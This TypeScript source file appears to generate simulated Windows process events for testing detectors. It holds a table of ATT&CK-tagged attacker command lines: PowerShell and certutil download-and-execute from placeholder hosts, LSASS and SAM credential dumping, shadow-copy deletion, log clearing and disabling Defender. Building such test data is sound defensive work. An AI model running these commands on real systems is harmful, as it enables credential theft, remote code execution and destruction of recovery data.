/**
 * Command lines of well-known techniques, our own: `technique | program | parent | line`. Each should make an
 * example detector fire. A program that the catalogue lacks is one of Windows at the place given.
 */
import { type Program, programs } from './catalogue.js'
import type { Device, Process } from './device.js'
import { fill } from './template.js'
import type { Values } from './values.js'

interface Attack {
  readonly technique: string
  readonly program: Program
  readonly parent: string
  readonly line: string
}

/** `path` may have gaps, which are filled in at the start. */
const tool = (path: string): Program => {
  const name = path.slice(path.lastIndexOf('\\') + 1)
  const known = programs.find((one) => one.name === name && one.owner !== 'network')
  return {
    ...(known ?? (programs[0] as Program)),
    index: -1,
    name,
    folder: known?.folder ?? path.slice(0, path.lastIndexOf('\\')),
    description: known?.description ?? name,
    owner: known?.owner === 'system' ? 'system' : 'user',
    boot: 0,
    topic: 'script',
    does: { network: 1, file: 2, registry: 1, image: 3 },
  }
}

const attacks: readonly Attack[] = String.raw`
T1059.001 | powershell.exe | explorer.exe | powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {encoded}
T1204.002 | powershell.exe | WINWORD.EXE | powershell -w hidden -c "Start-Process {temp}\{word}{n:99}.exe"
T1105 | powershell.exe | cmd.exe | powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://{host}/{hex:6}.ps1')"
T1027 | powershell.exe | explorer.exe | powershell -c "$d = [byte[]]({n:255},{n:255},{n:255}); 0..2 | % { $d[$_] = $d[$_] -bxor 0x{hex:2} }"
T1218.005 | C:\Windows\System32\mshta.exe | explorer.exe | mshta.exe http://{address}:8000/{word}.hta
T1218.010 | C:\Windows\System32\regsvr32.exe | cmd.exe | regsvr32 /s /n /u /i:http://{host}/{word}.sct scrobj.dll
T1218.011 | rundll32.exe | cmd.exe | rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();h=new%20ActiveXObject("{word}.{word}")
T1003.001 | rundll32.exe | cmd.exe | rundll32 C:\Windows\System32\comsvcs.dll, MiniDump {n:9000} {temp}\{hex:6}.dmp full
T1003.001 | C:\Windows\Temp\procdump64.exe | cmd.exe | procdump64 -accepteula -ma lsass.exe C:\Windows\Temp\{hex:6}.dmp
T1003.002 | reg.exe | cmd.exe | reg save hklm\{pick:sam|security|system} {temp}\{hex:8}.hiv
T1003.003 | C:\Windows\System32\ntdsutil.exe | cmd.exe | ntdsutil "ac i ntds" "ifm" "create full C:\Windows\Temp\{hex:6}" q q
T1003.003 | C:\Windows\System32\esentutl.exe | cmd.exe | esentutl.exe /y /vss C:\Windows\System32\config\SAM /d {temp}\{hex:6}
T1490 | C:\Windows\System32\vssadmin.exe | cmd.exe | vssadmin.exe delete shadows /all /quiet
T1490 | C:\Windows\System32\bcdedit.exe | cmd.exe | bcdedit /set {default} recoveryenabled no
T1047 | C:\Windows\System32\wbem\WMIC.exe | cmd.exe | wmic /node:{device} process call create "cmd.exe /c {temp}\{word}.bat"
T1053.005 | schtasks.exe | cmd.exe | schtasks /create /f /sc minute /mo {n:60} /tn "{word} {word}" /tr "powershell -w 1 -f {temp}\{hex:6}.ps1"
T1136.001 | C:\Windows\System32\net1.exe | net.exe | C:\Windows\system32\net1 user {word}{n:99} {b64:10}! /add
T1087.002 | net.exe | cmd.exe | net group "Domain Admins" /domain
T1482 | C:\Windows\System32\nltest.exe | cmd.exe | nltest /domain_trusts /all_trusts
T1033 | C:\Windows\System32\whoami.exe | cmd.exe | whoami /all
T1070.001 | C:\Windows\System32\wevtutil.exe | cmd.exe | wevtutil cl {pick:Security|System|Application}
T1105 | C:\Windows\System32\certutil.exe | cmd.exe | certutil -urlcache -split -f http://{address}/{hex:6}.bin {temp}\{word}.exe
T1562.001 | powershell.exe | cmd.exe | powershell Set-MpPreference -DisableRealtimeMonitoring $true
T1021.002 | sc.exe | cmd.exe | sc.exe \\{server} create {word}{n:99} binPath= "C:\Windows\{hex:8}.exe"
T1059.005 | C:\Windows\System32\wscript.exe | explorer.exe | "C:\Windows\System32\WScript.exe" "{home}\Downloads\{label}.js"
T1505.003 | cmd.exe | w3wp.exe | "cmd.exe" /c cd /d C:\inetpub\wwwroot&whoami&echo {hex:8}
T1003.001 | {temp}\{word}{n:99}.exe | cmd.exe | {word}.exe "privilege::debug" "sekurlsa::logonpasswords" exit
T1558.003 | {temp}\{word}{n:99}.exe | powershell.exe | {word}.exe kerberoast /outfile:{temp}\{hex:6}.txt
T1562.001 | net.exe | cmd.exe | net stop {pick:WinDefend|Sense|EventLog}
T1218.013 | C:\Windows\System32\mavinject.exe | cmd.exe | mavinject {n:9000} /INJECTRUNNING {temp}\{word}.dll`
  .trim()
  .split('\n')
  .map((text) => {
    const [technique = '', path = '', parent = '', ...line] = text.split(' | ')
    return { technique, program: tool(path), parent, line: line.join(' | ') }
  })

/** Parents without which the start would be like any other. */
const telling = new Set(['w3wp.exe', 'WINWORD.EXE'])

/** What an operator would hide: download and run, as -EncodedCommand takes it. */
const encoded = (values: Values): string =>
  Buffer.from(
    `$c = New-Object Net.WebClient; IEX $c.DownloadString('https://${values.host()}/${values.hex(8)}')`,
    'utf16le',
  ).toString('base64')

/** Starts the program of some technique, below the right parent where it lives. */
export function attack(device: Device, now: number): { process: Process; technique: string } {
  const { values, scene } = device
  let picked = values.pick(attacks)
  while (telling.has(picked.parent) && !device.living(picked.parent)) picked = values.pick(attacks)
  const { technique, program, parent, line } = picked
  const from = device.living(parent) ?? device.living('explorer.exe') ?? device.living('svchost.exe')
  const filled = fill(
    line.replace('{encoded}', encoded(values)).replace('{default}', '{{pick:default}}'),
    scene,
  )
  const named = { ...program, name: fill(program.name, scene) }
  return { process: device.start(named, from as Process, now, filled), technique }
}
